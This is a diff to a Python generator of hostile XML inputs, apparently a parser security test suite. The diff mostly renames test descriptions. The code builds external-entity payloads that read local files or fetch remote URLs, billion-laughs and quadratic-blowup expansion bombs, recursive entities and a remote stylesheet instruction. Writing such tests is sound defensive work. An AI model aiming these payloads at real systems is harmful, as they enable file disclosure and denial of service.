@@ -119,7 +119,7 @@ def _internal(template: Template, _url: Callable[[str], str]) -> Iterator[Attack
     yield Attack("internal-entity", "a value made of entities", template.octets("&b;", prolog=subset))
     subset = f'<!DOCTYPE {template.root} [<!ENTITY a "{MARK[:9]}"><!ENTITY b "&a;{MARK[9:]}">]>'
     yield Attack("internal-entity", "a text made of entities", template.octets("&b;", prolog=subset))
-    yield Attack("internal-entity", "an entity aside", template.octets(ignored="&b;", prolog=subset))
+    yield Attack("internal-entity", "an entity in an ignored element", template.octets(ignored="&b;", prolog=subset))
     attribute = f'<!DOCTYPE {template.root} [<!ENTITY a "x"><!ATTLIST {template.root} id CDATA "{MARK}">]>'
     yield Attack("internal-entity", "an attribute that the DTD adds", template.octets(prolog=attribute))
 
@@ -130,7 +130,7 @@ def _external(template: Template, url: Callable[[str], str]) -> Iterator[Attack]
         subset = f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "{file}">]>'
         yield Attack("external-entity", f"{file} as a value", template.octets("&x;", prolog=subset))
     subset = f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "{_FILES[0]}">]>'
-    yield Attack("external-entity", f"{_FILES[0]} aside", template.octets(ignored="&x;", prolog=subset))
+    yield Attack("external-entity", f"{_FILES[0]} in an ignored element", template.octets(ignored="&x;", prolog=subset))
     subset = f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "{url("entity")}">]>'
     yield Attack("external-entity", "an entity from elsewhere", template.octets("&x;", prolog=subset), canary="entity")
     subset = f'<!DOCTYPE {root} [<!ENTITY x PUBLIC "-//A//B//EN" "{url("public")}">]>'
@@ -152,15 +152,21 @@ def _expansions(template: Template, _url: Callable[[str], str]) -> Iterator[Atta
     levels = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10))
     subset = f'<!DOCTYPE {template.root} [<!ENTITY l0 "lol">{levels}]>'
     # Aside, where a robot that expands them may pass over what comes out; as a value, where it would have to keep it.
-    yield Attack("expansion", "a thousand million laughs aside", template.octets(ignored="&l9;", prolog=subset))
-    yield Attack("expansion", "a thousand million laughs", template.octets("&l9;", prolog=subset))
+    yield Attack(
+        "expansion", "the billion laughs attack in an ignored element", template.octets(ignored="&l9;", prolog=subset)
+    )
+    yield Attack("expansion", "the billion laughs attack", template.octets("&l9;", prolog=subset))
     levels = "".join(f'<!ENTITY % q{level} "{f"&#37;q{level - 1};" * 10}">' for level in range(1, 10))
     subset = f'<!DOCTYPE {template.root} [<!ENTITY % q0 "<!-- -->">{levels} %q9;]>'
-    yield Attack("expansion", "laughs in parameter entities", template.octets(prolog=subset))
+    yield Attack("expansion", "the billion laughs attack by parameter entities", template.octets(prolog=subset))
     subset = f'<!DOCTYPE {template.root} [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'
     yield Attack("expansion", "entities that hold each other", template.octets("&a;", prolog=subset))
     subset = f'<!DOCTYPE {template.root} [<!ENTITY a "{"a" * 50_000}">]>'
-    yield Attack("quadratic", "one long entity 5,000 times aside", template.octets(ignored="&a;" * 5000, prolog=subset))
+    yield Attack(
+        "quadratic",
+        "one long entity 5,000 times in an ignored element",
+        template.octets(ignored="&a;" * 5000, prolog=subset),
+    )
     yield Attack("quadratic", "one long entity 5,000 times", template.octets("&a;" * 5000, prolog=subset))
 
 
@@ -210,5 +216,9 @@ def _sizes(template: Template, _url: Callable[[str], str]) -> Iterator[Attack]:
 def _instructions(template: Template, url: Callable[[str], str]) -> Iterator[Attack]:
     sheet = f'<?xml-stylesheet type="text/xsl" href="{url("stylesheet")}"?>'
     yield Attack("processing-instruction", "a style sheet", template.octets(prolog=sheet), canary="stylesheet")
-    yield Attack("processing-instruction", "an instruction aside", template.octets(ignored="<?run this?>"))
+    yield Attack(
+        "processing-instruction",
+        "a processing instruction in an ignored element",
+        template.octets(ignored="<?run this?>"),
+    )
     yield Attack("processing-instruction", "an instruction at the end", template.octets() + b"<?run this?>")
